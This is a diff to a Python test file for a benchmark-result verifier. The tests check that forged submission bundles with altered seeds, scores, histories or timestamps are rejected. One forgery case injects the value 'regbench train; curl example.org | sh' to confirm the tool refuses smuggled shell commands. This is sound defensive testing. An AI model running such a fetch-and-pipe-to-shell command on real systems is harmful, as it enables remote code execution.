@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import math
 import re
+import shutil
 import zipfile
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -13,6 +16,8 @@ from click.testing import CliRunner, Result
 
 from regbench.cli import main
 from regbench.reports.bundle import bundle
+from regbench.reports.bundle.again import differences, drawn_cells
+from regbench.reports.bundle.bundle import read_bundle
 from tests.reports.conftest import later, score
 from tests.reports.forging import Json, Parts, tuned_sweep
 
@@ -69,6 +74,24 @@ def test_nothing_is_submitted_that_does_not_check_out(tmp_path: Path) -> None:
     done = run(*command, "--weights")
     assert "is gone, and cannot be packed; leave out --weights" in done.stderr
     assert run(*command).exit_code == 0
+
+
+def test_what_a_killed_submit_leaves_is_swept(honest: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    out = tmp_path / "out"
+    command = ("submit", "mine", "--runs-dir", honest.parent / "runs", "--out", out / "lab.zip")
+    replace = Path.replace
+
+    def watched(path: Path, target: Path) -> Path:
+        shutil.copytree(out, tmp_path / "killed", dirs_exist_ok=True)  # what a kill here would leave
+        return replace(path, target)
+
+    with monkeypatch.context() as patch:
+        patch.setattr(Path, "replace", watched)
+        assert run(*command).exit_code == 0
+    assert len(list((tmp_path / "killed").iterdir())) == 1
+    shutil.copytree(tmp_path / "killed", out, dirs_exist_ok=True)
+    assert run(*command).exit_code == 0
+    assert [path.name for path in out.iterdir()] == ["lab.zip"]
 
 
 def test_a_cell_of_two_sweeps_is_not_packed_twice(tmp_path: Path) -> None:
@@ -238,7 +261,7 @@ FORGERIES: dict[str, tuple[Change, str]] = {
         r"its cell id is \w+, that of its cell is",
     ),
     "a setting that is none": (_unknown_setting, "its settings are none of a run of this version: .*boost"),
-    "shorter training than was done": (_shorter, "its history has 2 epochs, its settings 1"),
+    "shorter training than was done": (_shorter, "its history has 2 epochs, which are not 1 to 1"),
     "smaller batches than were used": (_fewer_images, "its 6 steps of 16 images are not the 192 of its history"),
     "another seed's number": (lambda p: _set(p.final[0], "seed", 5), "its seed is 5, that of its settings is"),
     "another method's name": (
@@ -252,8 +275,8 @@ FORGERIES: dict[str, tuple[Change, str]] = {
     "a score above 100 %": (lambda p: _set(p.score(p.final[0]), "value", 170.0), "is 170 %, outside 0 to 100 %"),
     "top-1 above top-5": (lambda p: _set(p.score(p.final[0]), "value", 99.0), "more than its top-5 of 90 %"),
     "a shorter training time": (
-        lambda p: _set(p.final[0], "cost.train_s", 5.0),
-        r"its training took 5.0 s, the epochs of its history 2\d",
+        lambda p: _set(p.final[0], "cost.train_s", p.final[0]["cost"]["train_s"] - 0.1),
+        r"its training took 2\d\S* s, the epochs of its history 2\d",
     ),
     "quicker epochs in the history": (
         lambda p: p.history(p.final[0], lambda rows: _set(rows[0], "epoch_s", 1.0)),
@@ -261,7 +284,11 @@ FORGERIES: dict[str, tuple[Change, str]] = {
     ),
     "an epoch less in the history": (
         lambda p: p.history(p.final[0], lambda rows: rows.pop()),
-        "its history has 1 epochs, its settings 2",
+        "its history has 1 epochs, which are not 1 to 2",
+    ),
+    "an epoch twice in the history": (
+        lambda p: p.history(p.final[0], lambda rows: _set(rows[1], "epoch", 1)),
+        "its history has 2 epochs, which are not 1 to 2 as in its settings",
     ),
     "no history": (lambda p: _set(p.final[0], "metrics", None), "it has trained and names no history"),
     "images of another test split": (_other_images, "the test split has 2 contents"),
@@ -285,6 +312,10 @@ FORGERIES: dict[str, tuple[Change, str]] = {
     "a value of the ranking": (_praised, r"ranked for \w+ with 72.0, has 7\d.0 in its records"),
     "a configuration never tried": (_invented, "000000000000, ranked for .*, has no record in the bundle"),
     "a larger budget than there was": (lambda p: _budget(p, 12), "it claims a budget of 12, and its longest ranking"),
+    "another score that chose": (
+        lambda p: _set(p.final[0], "choice.hyperparameters.score", "linear_top1"),
+        "it claims a choice among 2 by linear_top1, its tuning chose among 2 by knn_top1",
+    ),
     "a smaller budget for one method": (_hidden, "the methods had unequal budgets, in configurations: .* 2, .* 1"),
     "a worse learning rate of the probe": (
         lambda p: _set(p.final[0], "choice.probe_learning_rate.chosen", 0.1),
@@ -300,6 +331,18 @@ FORGERIES: dict[str, tuple[Change, str]] = {
     "a full training called stopped": (_stopped, "as stopped, trained for 2 epochs"),
     "a later evaluation of no cell": (_others_evaluation, "voc07 of cell 000000000000, which has no record"),
     "a later evaluation chosen on test": (_evaluation_on_test, "chosen on the test split, which the record was not"),
+    "no word on when it ended": (
+        lambda p: _set(p.final[0]["attempts"][-1], "finished", None),
+        "its last attempt ended at no time",
+    ),
+    "a time of another kind": (
+        lambda p: _set(p.final[0]["attempts"][0], "finished", "2026-11-22T03:30:00+14:00"),
+        r"2026-11-22T03:30:00\+14:00 is not a time as runs write it",
+    ),
+    "a command of a shell": (
+        lambda p: _set(p.final[0], "command", "regbench train; curl example.org | sh"),
+        "'regbench train; curl example.org | sh' is no command of regbench alone",
+    ),
 }
 
 
@@ -411,8 +454,77 @@ def test_what_a_bundle_says_cannot_break_lines(honest: Path, tmp_path: Path) -> 
     assert "\x1b" not in done.stdout
 
 
+def test_a_tuning_on_the_test_split_checks_out(tmp_path: Path) -> None:
+    tuned_sweep(tmp_path / "runs", "mine", "evaluation.select_on=test")
+    done = run("submit", "mine", "--runs-dir", tmp_path / "runs", "--out", tmp_path / "lab.zip")
+    assert done.exit_code == 0, done.stderr
+    assert run("verify", tmp_path / "lab.zip").exit_code == 0
+
+
+def test_seeds_that_a_tuning_did_not_have_are_none_of_its_values(honest: Path, tmp_path: Path) -> None:
+    parts = Parts(honest)
+    for record in parts.final:
+        parts.score(record, split="tuning")["value"] += record["seed"]
+    assert run("verify", parts.write(tmp_path / "other.zip")).exit_code == 0
+
+
+def test_a_search_tries_all_methods_on_equally_many_images(honest: Path, tmp_path: Path) -> None:
+    """However many configurations these are, unless a run diverged."""
+    parts = Parts(honest)
+    first, second = (record for record in parts.records if record["status"] == "tuned")
+    for record, rates in ((first, (0.1, 0.2)), (second, (0.1,))):
+        (entry,) = (entry for entry in parts.choices[0]["choices"] if entry["method"] == record["method"])
+        for rate in rates:
+            short = parts.shorten(record, base_lr=rate)
+            identity = {"cell_id": short["cell_id"], "configuration": short["cell_id"]}
+            step = {**entry["ranking"][1], **identity, "epochs": 1, "status": "stopped"}
+            entry["ranking"].append(step)
+    _budget(parts, 4)
+    done = run("verify", parts.write(tmp_path / "search.zip"))
+    assert (done.exit_code, done.output.partition(";")[0]) == (0, "9 cells check out")
+    parts.choices[0]["choices"][0]["images"] = 1000
+    done = run("verify", parts.write(tmp_path / "unequal.zip"))
+    assert "the methods had unequal budgets, in images: VICReg 1,000, AUH 384\n1 misfit" in done.output
+    short |= {"status": "diverged", "scores": []}
+    step |= {"status": "diverged", "value": None}
+    done = run("verify", parts.write(tmp_path / "diverged.zip"))
+    assert done.exit_code == 0, done.output
+
+
+def test_what_is_computed_again_may_differ_as_seeds_do(honest: Path, tmp_path: Path) -> None:
+    """Three standard deviations of a difference, pooled over the methods, and half a point at least."""
+    parts = Parts(honest)
+    parts.score(next(record for record in parts.final if record["seed"] == 1))["value"] += 2.0
+    spread = read_bundle(parts.write(tmp_path / "spread.zip"))
+    record = next(record for record in spread.records if record.status == "done")
+
+    def told(points: float) -> str:
+        again = [replace(each, value=each.value + points) for each in record.scores]
+        return " ".join(differences(spread, record, again, trained=True, alike=False))
+
+    assert told(0.49) == ""
+    least = 3 * math.sqrt(2) * math.sqrt((2 + 0) / 2)
+    assert "knn_top1 on test" not in told(least - 0.01) and "linear_top1 on test" in told(0.51)
+    assert "0.5 is the tolerance" in told(0.51) and f"{least:.2g} is the tolerance" in told(least + 0.01)
+
+
+def test_which_cells_are_computed_again_follows_from_the_whole_bundle(honest: Path) -> None:
+    found = read_bundle(honest)
+    others = [replace(found, sha256=f"{i:064x}") for i in range(8)]
+    assert len({tuple(record.cell_id for record in drawn_cells(other, 2)) for other in others}) > 1
+
+
+def test_scores_of_later_evaluations_need_not_come_again(honest: Path) -> None:
+    found = read_bundle(honest)
+    (record,) = (record for record in found.records if record.score("voc07_map", "test") is not None)
+    own = [each for each in record.scores if each.name != "voc07_map"]
+    assert differences(found, record, own, trained=True, alike=True) == []
+    (line,) = differences(found, record, own[1:], trained=True, alike=True)
+    assert line.endswith(f"{own[0].name} on {own[0].split} did not come again")
+
+
 def test_swapped_seeds_fit_until_they_are_computed_again(honest: Path, tmp_path: Path) -> None:
-    """Which is why there is --recompute: tests/benchmark/test_recompute.py."""
+    """Which is why there is --recompute: tests/instruments/test_recompute.py."""
     parts = Parts(honest)
     for record, other in [_both_seeds(parts, parts.final[0])]:
         record["scores"], other["scores"] = other["scores"], record["scores"]
